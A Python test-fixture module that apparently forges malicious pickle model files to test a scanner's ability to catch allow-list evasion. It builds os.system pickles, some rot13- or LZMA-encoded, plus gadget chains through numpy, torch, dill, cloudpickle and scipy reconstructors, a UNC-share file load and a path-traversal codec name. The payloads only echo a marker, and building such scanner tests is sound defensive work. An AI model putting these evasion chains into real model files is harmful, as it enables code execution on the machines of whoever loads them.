"""Hostile pickles made of names that real models use: what an attacker writes who has read every allow-list.

Nothing here names a dangerous function. The power comes from state, from methods that the loader
calls by name (`append`, `__new__`, `__setstate__`), from reconstructors that call what they are
given, from code objects, and from bytes that a known function unpickles. Echo at most.
"""

from __future__ import annotations

import lzma
from typing import Any

from stannary.testing.forges import forge
from stannary.testing.pickle_assembler import Assembler

__all__ = ["bound_method", "function"]

_TARGET = "/nonexistent/stannary"
_TEXT = b"cos\nsystem\n(S'echo stannary'\ntR."
_STACK = b"\x8c\x02os\x8c\x06system\x93\x8c\x0decho stannary\x85R."


def _a() -> Assembler:
    return Assembler(4)


def _g(module: str, name: str) -> Assembler:
    return _a().name(module, name)


def bound_method() -> Assembler:
    """Return `array.tofile` of an array that the pickle makes: it writes any bytes to any path when it is called."""
    dtype = _a().call("numpy", "dtype", "u1", False, True).push((3, "|", None, None, None, -1, -1, 0)).op("BUILD")
    payload = b"echo stannary\n"
    array = _a().call("numpy.core.multiarray", "_reconstruct", _g("numpy", "ndarray"), (0,), b"b")
    array.push((1, (len(payload),), dtype, False, payload)).op("BUILD")
    return _a().call("builtins", "getattr", array, "tofile")


def function(*names: str) -> Assembler:
    """Return a function of the pickle's own code, which uses some names."""
    kind = _a().call("cloudpickle.cloudpickle", "_builtin_type", "CodeType")
    code = _a().push(kind).reduce(0, 0, 0, 0, 1, 0, b"\x97\x00d\x00S\x00", (None,), names, (), "a", "b", "b", 1, b"", b"", (), ())
    return _a().call("cloudpickle.cloudpickle", "_make_function", code, {}, "f", None, None)


def _model() -> Assembler:
    return _a().name("sklearn.linear_model._base", "LinearRegression").push(()).op("NEWOBJ")


def _namespace(**attributes: Any) -> Assembler:  # noqa: ANN401 - any values
    return _a().name("types", "SimpleNamespace").push(()).push(attributes).op("NEWOBJ_EX")


def _dill_type(name: str) -> Assembler:
    return _a().call("dill._dill", "_load_type", name)


def _partial(replaced: Assembler, *args: Any) -> Assembler:  # noqa: ANN401 - any values
    return _a().call("functools", "partial", _g("builtins", "int")).push((replaced, args, {}, None)).op("BUILD")


def _register(name: str, content: Assembler | bytes) -> None:
    built = content if isinstance(content, bytes) else content.stop()
    forge(f"attacks.pickle.{name}", filename="model.pkl", family="attacks", malicious=True)(lambda: built)


_REBUILD = _g("torch._utils", "_rebuild_tensor_v2")
_FILE = (_TARGET,)

# The loader calls `append`, `extend` or `add` of whatever stands where a container should
_register(
    "append_of_namespace", _a().call("types", "SimpleNamespace").push({"append": function("x")}).op("BUILD").push(1).op("APPEND")
)
_register("append_of_keywords", _a().push(_namespace(append=function("x"))).push(1).op("APPEND"))
_register("append_of_mapping", _a().call("types", "SimpleNamespace", {"append": function("x")}).push(1).op("APPEND"))
_register(
    "extend_of_arguments",
    _a().call("argparse", "Namespace").push({"extend": function("x")}).op("BUILD").op("MARK").push(1).op("APPENDS"),
)
_register(
    "add_of_exception",
    _a().call("builtins", "Exception").push({"add": function("x")}).op("BUILD").op("MARK").push(1).op("ADDITEMS"),
)
_register("append_of_a_model", _a().push(_model()).push({"append": bound_method()}).op("BUILD").push(_TARGET).op("APPEND"))
_register(
    "append_computed_key",
    _a()
    .call("types", "SimpleNamespace")
    .ops("EMPTY_DICT", "MARK")
    .call("builtins", "str", "append")
    .push(function("x"))
    .op("SETITEMS")
    .op("BUILD")
    .push(1)
    .op("APPEND"),
)
_register(
    "items_of_chainmap",
    _a().call("collections", "ChainMap", _g("sklearn.metrics._scorer", "_SCORERS")).push("a").push("b").op("SETITEM"),
)

# State that replaces a function, or that the next BUILD calls
_register("partial_state_getattr", _a().push(_partial(_g("builtins", "getattr"))).reduce(_REBUILD, "__globals__"))
_register(
    "partial_state_chain",
    _a()
    .push(_partial(_g("builtins", "dict.get"), _a().push(_partial(_g("builtins", "getattr"))).reduce(_REBUILD, "__globals__")))
    .reduce("__builtins__"),
)
_register("setstate_of_instance", _a().push(_model()).push({"__setstate__": function("x")}).op("BUILD").push(1).op("BUILD"))
_register(
    "setstate_far_back",
    _a().push(_model()).push({**{f"k{i}": i for i in range(700)}, "__setstate__": function("x")}).op("BUILD").push(1).op("BUILD"),
)
_register(
    "setstate_in_ordereddict",
    _a().push(_model()).call("collections", "OrderedDict", [("__setstate__", function("x"))]).op("BUILD").push(1).op("BUILD"),
)
_register(
    "setstate_in_items",
    _a()
    .push(_model())
    .call("collections", "OrderedDict")
    .op("MARK")
    .push("__setstate__")
    .push(function("x"))
    .op("SETITEMS")
    .op("BUILD")
    .push(1)
    .op("BUILD"),
)
_register(
    "setstate_computed_key",
    _a()
    .push(_model())
    .ops("EMPTY_DICT", "MARK")
    .call("builtins", "str", "__setstate__")
    .push(function("x"))
    .op("SETITEMS")
    .op("BUILD")
    .push(1)
    .op("BUILD"),
)

# Instances where a class is expected: their `__new__` is any function
_FAKE = _namespace(__new__=_g("builtins", "getattr"), __init__=_g("builtins", "slice"))
_register("reconstructor_fake_base", _a().call("copyreg", "_reconstructor", _REBUILD, _FAKE, "__globals__"))
_register(
    "reconstructor_own_init", _a().call("copyreg", "_reconstructor", *[_g("gensim.corpora.csvcorpus", "CsvCorpus")] * 2, "data")
)
_register("newobj_fake_class", _a().push(_FAKE).push(("x",)).op("NEWOBJ"))
_register("copyreg_newobj_fake", _a().call("copyreg", "__newobj__", _FAKE, "x"))
_register("pandas_index_fake", _a().call("pandas.core.indexes.base", "_new_Index", _FAKE, {"x": 1}))
_register("masked_array_fake", _a().call("numpy.ma.core", "_mareconstruct", _FAKE, _g("numpy", "ndarray"), (1,), "b"))

# Reconstructors that call what they are given
_register("numpy_generator", _a().call("numpy.random._pickle", "__generator_ctor", _TARGET, bound_method()))
_register("numpy_randomstate", _a().call("numpy.random._pickle", "__randomstate_ctor", "x", function("x")))
_register("torch_rebuild_type", _a().call("torch._tensor", "_rebuild_from_type", bound_method(), _g("torch", "Tensor"), _FILE, {}))
_register(
    "numba_custom",
    _a().call(
        "numba.core.serialize",
        "custom_rebuild",
        _a()
        .name("numba.core.serialize", "_CustomPickled")
        .push(())
        .op("NEWOBJ")
        .push((None, {"ctor": function("x"), "states": _FILE}))
        .op("BUILD"),
    ),
)
_register(
    "constructor_calls_function",
    _a().call("scipy.optimize._basinhopping", "BasinHoppingRunner", [1], _g("scipy.optimize._optimize", "fmin"), 1),
)
_register("constructor_calls_method", _a().call("scipy.optimize._basinhopping", "BasinHoppingRunner", _TARGET, bound_method(), 1))

# dill and cloudpickle helpers
_CODE = (
    _a()
    .push(_dill_type("CodeType"))
    .reduce(0, 0, 0, 0, 1, 0, b"\x97\x00d\x00S\x00", (None,), ("x",), (), "a", "b", "b", 1, b"", b"", (), ())
)
_register("dill_code_by_type", _a().push(_a().push(_dill_type("FunctionType")).reduce(_CODE, {})).reduce())
_register("dill_type_is_method", _a().call("dill._dill", "_create_type", function("x"), _TARGET))
_register("dill_map", _a().call("builtins", "list", _a().push(_dill_type("map")).reduce(function("x"), [1])))
_register("dill_ftype", _a().call("dill._dill", "_create_ftype", function("x"), _TARGET, (), {}))
_register("dill_array", _a().call("dill._dill", "_create_array", function("x"), _TARGET, {}))
_register("dill_namedtuple_import", _a().call("dill._dill", "_create_namedtuple", "x", ("a",), "antigravity"))
_register("dill_write_file", _a().push(_dill_type("FileType")).reduce(_TARGET, "w"))
_register("dill_open_file", _a().push(_dill_type("FileType")).reduce(_g("builtins", "print")))
_register(
    "cloudpickle_function_globals",
    _a().call("cloudpickle.cloudpickle", "_function_setstate", _REBUILD, ({}, {"__globals__": {"_rebuild_tensor": function("x")}})),
)
_register(
    "cloudpickle_library_class",
    _a().call(
        "cloudpickle.cloudpickle", "_class_setstate", _g("torch.nn.modules.linear", "Linear"), ({"forward": function("x")}, {})
    ),
)
_register(
    "cloudpickle_metaclass", _a().call("cloudpickle.cloudpickle", "_make_skeleton_class", function("x"), "x", (), {}, None, None)
)
_register(
    "cloudpickle_new_class",
    _a().push(_a().call("cloudpickle.cloudpickle", "_builtin_type", "new_class")).reduce("x", (), {}, function("x")),
)
_register("code_many_names", function(*[f"n{i}" for i in range(16)], "system"))
_register("code_frames", function("e", "__traceback__", "tb_frame", "f_builtins"))

# Bytes that a known function unpickles, without a header to tell them by
_register("torch_bytes_text", _a().call("torch.storage", "_load_from_bytes", _TEXT))
_register("torch_bytes_number_first", _a().call("torch.storage", "_load_from_bytes", b"I1\n0" + _TEXT))
_register("torch_bytes_no_header", _a().call("torch.storage", "_load_from_bytes", _STACK))
_register(
    "torch_bytes_second_call", _a().push([_a().call("torch.storage", "_load_from_bytes", part) for part in (b"\x80\x02N.", _TEXT)])
)
_register("torch_bytes_latin1", Assembler(2).call("torch.storage", "_load_from_bytes", _TEXT))
_register(
    "torch_bytes_rot13",
    Assembler(2).call("torch.storage", "_load_from_bytes", Assembler(2).call("_codecs", "encode", "pbf\nflfgrz\n", "rot13")),
)
_register(
    "torch_bytes_utf8",
    Assembler(2).call("torch.storage", "_load_from_bytes", Assembler(2).call("_codecs", "encode", _TEXT.decode(), "utf8")),
)
_register("spacy_doc_bytes", _a().call("spacy.tokens.doc", "unpickle_doc", None, _TEXT, b""))
_register("codec_by_path", Assembler(2).call("_codecs", "encode", "x", "../../evil"))

# An array of old joblib, which numpy loads with pickles allowed from a file of the attacker's choice
_ELSEWHERE = {"filename": "\\\\server\\share\\weights.npy", "subclass": _g("numpy", "ndarray"), "allow_mmap": False}
_register(
    "joblib_array_elsewhere",
    _a().name("joblib.numpy_pickle_compat", "NDArrayWrapper").push(()).op("NEWOBJ").push(_ELSEWHERE).op("BUILD"),
)

# Sizes, and decoys
_register("endless_deque", _a().call("collections", "deque", _a().call("itertools", "count")))
_register("huge_bytes_second", _a().push([_a().call("builtins", "bytes", size) for size in (5, 1 << 40)]))
_register("many_names", b"\x80\x04" + b"".join(b"ca%d\nb\n0" % i for i in range(20_010)) + b"N.")

_SMALL = [{"id": lzma.FILTER_LZMA1, "dict_size": 4096}]  # the header's third byte is not zero then
forge("attacks.lzma_small_dictionary", filename="model.joblib", family="attacks", malicious=True)(
    lambda: lzma.compress(Assembler(4).call("os", "system", "echo stannary").stop(), format=lzma.FORMAT_ALONE, filters=_SMALL)
)
